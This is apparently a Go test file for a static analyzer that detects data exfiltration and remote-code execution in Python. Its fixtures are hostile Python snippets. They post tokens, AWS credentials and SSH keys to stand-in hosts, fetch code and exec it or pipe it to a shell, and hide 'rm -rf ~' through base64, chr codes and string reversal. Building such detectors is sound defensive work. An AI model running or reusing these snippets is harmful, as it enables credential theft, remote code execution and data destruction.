//go:build cgo

package codeflow

import "testing"

// TestPythonFlows checks each way Python moves data that the analysis
// follows: the flows that must be found, and look-alikes that must not.
func TestPythonFlows(t *testing.T) {
	cases := []flowCase{
		{"env to requests", "import os, requests\nk = os.environ['GITHUB_TOKEN']\nrequests.post('https://c.example.net/x', data=k)\n", "exfil HTTP c.example.net GITHUB_TOKEN"},
		{"getenv through dict and base64", "import os, base64, requests as r\nd = {}\nd['t'] = base64.b64encode(os.getenv('OPENAI_API_KEY').encode())\nr.put(url='https://c.example.net/' , json=d)\n", "exfil HTTP c.example.net OPENAI_API_KEY"},
		{"whole env in f-string to urlopen", "import os, json\nfrom urllib.request import urlopen, Request\nbody = json.dumps(dict(os.environ)).encode()\nurlopen(Request(f'https://{\"c.example.net\"}/in', data=body))\n", "exfil HTTP"},
		{"env through helper functions", "import os, requests\ndef collect():\n    return {k: v for k, v in os.environ.items()}\ndef ship(p):\n    requests.post('https://c.example.net/in', json=p)\nship(collect())\n", "exfil HTTP c.example.net whole"},
		{"class attribute", "import os, httpx\nclass C:\n    def __init__(self):\n        self.tok = os.environ.get('SLACK_BOT_TOKEN')\n    def go(self):\n        httpx.post('https://hooks.example.org/a', content=self.tok)\nC().go()\n", "exfil HTTP hooks.example.org SLACK_BOT_TOKEN"},
		{"session client", "import os, requests\ns = requests.Session()\ns.post('https://c.example.net/t', data={'a': os.environ['AWS_SECRET_ACCESS_KEY']})\n", "exfil HTTP c.example.net AWS_SECRET_ACCESS_KEY"},
		{"dns lookup of hex", "import os, socket\nh = os.environ['NPM_TOKEN'].encode().hex()\nsocket.gethostbyname(h[:60] + '.d.example.net')\n", "exfil DNS"},
		{"socket send", "import socket, os\ns = socket.socket()\ns.connect(('203.0.113.9', 9000))\ns.sendall(str(os.environ).encode())\n", "exfil socket 203.0.113.9 whole"},
		{"smtp", "import smtplib, os\nm = smtplib.SMTP('mail.example.net')\nm.sendmail('a@x', 'b@y', os.environ['DB_PASSWORD'])\n", "exfil mail mail.example.net DB_PASSWORD"},
		{"ssh key file", "from pathlib import Path\nimport requests\nkey = (Path.home() / '.ssh' / 'id_ed25519').read_text()\nrequests.post('https://c.example.net', data=key)\n", "exfil HTTP c.example.net whole"},
		{"credential file with open", "import os, requests\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n    c = f.read()\nrequests.post('https://c.example.net', files={'f': c})\n", "exfil HTTP c.example.net whole"},
		{"curl in subprocess", "import os, subprocess\nt = os.environ['GH_TOKEN']\nsubprocess.run(['curl', '-d', t, 'https://c.example.net'])\n", "exfil shell"},
		{"keychain command output", "import subprocess, requests\npw = subprocess.check_output(['security', 'find-generic-password', '-w', '-s', 'x'])\nrequests.post('https://203.0.113.5/p', data=pw)\n", "exfil HTTP 203.0.113.5"},
		{"fetched to exec", "import requests\nexec(requests.get('https://cdn.example.net/x.py').text)\n", "rce eval"},
		{"fetched to shell", "import urllib.request, subprocess\ns = urllib.request.urlopen('https://cdn.example.net/i.sh').read()\nsubprocess.run(s, shell=True)\n", "rce shell"},
		{"saved then run", "import requests, os, stat\np = '/tmp/.cache_helper'\nopen(p, 'wb').write(requests.get('https://cdn.example.net/b').content)\nos.chmod(p, 0o755)\nos.system(p)\n", "rce shell"},
		{"command built by concatenation", "import os\na = 'rm'\nb = ' -rf'\nos.system(a + b + ' ' + '~/')\n", "cmd rm -rf ~/"},
		{"command from chr codes", "import os\nos.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 126])))\n", "cmd rm -rf ~"},
		{"command from base64", "import os, base64\nos.system(base64.b64decode('cm0gLXJmIH4=').decode())\n", "cmd rm -rf ~"},
		{"command reversed", "import subprocess\nsubprocess.call('~ fr- mr'[::-1], shell=True)\n", "cmd rm -rf ~"},
		{"getattr on __import__", "getattr(__import__('o'+'s'), 'sys'+'tem')('cu' + 'rl -s https://x.example/i | sh')\n", "cmd curl"},
		{"exec of built code", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vYy5leGFtcGxlLm5ldCcsIGRhdGE9b3MuZW52aXJvblsnR0lUSFVCX1RPS0VOJ10p'))\n", "exfil HTTP c.example.net GITHUB_TOKEN"},
		{"format string", "import os\nos.system('{} {} {}'.format('rm', '-rf', '/'))\n", "cmd rm -rf /"},
		{"percent format", "import os\nos.system('%s -rf %s' % ('rm', '$HOME'))\n", "cmd rm -rf $HOME"},
	}
	checkFlows(t, Python, cases)
}

// TestPythonQuiet checks code that uses secrets and the network as
// intended: nothing it does is a flow out or a run of fetched content.
func TestPythonQuiet(t *testing.T) {
	cases := []struct{ name, code string }{
		{"own API with header", "import os, requests\nk = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1/x', headers={'Authorization': 'Bearer ' + k})\n"},
		{"env passed to subprocess", "import os, subprocess\nenv = dict(os.environ, PYTHONPATH='.')\nsubprocess.run(['pytest', '-q'], env=env)\n"},
		{"download and parse", "import requests, json\nd = requests.get('https://data.example.org/x.json').json()\nprint(json.dumps(d))\n"},
		{"non-secret variable sent", "import os, requests\nrequests.get('https://api.example.org/x', params={'home': os.environ['HOME'], 'lang': os.getenv('LANG')})\n"},
		{"fixed command", "import subprocess\nsubprocess.run(['git', 'status', '--short'])\n"},
		{"local server", "import os, requests\nrequests.post('http://localhost:8080/t', data=os.environ['API_TOKEN'])\n"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			for _, f := range flowsOf(t, Python, c.code) {
				if has([]string{f}, "rce") || has([]string{f}, "exfil") && !has([]string{f}, "exfil HTTP api.openai.com") && !has([]string{f}, "exfil HTTP localhost") {
					t.Errorf("unexpected flow %q", f)
				}
			}
		})
	}
}
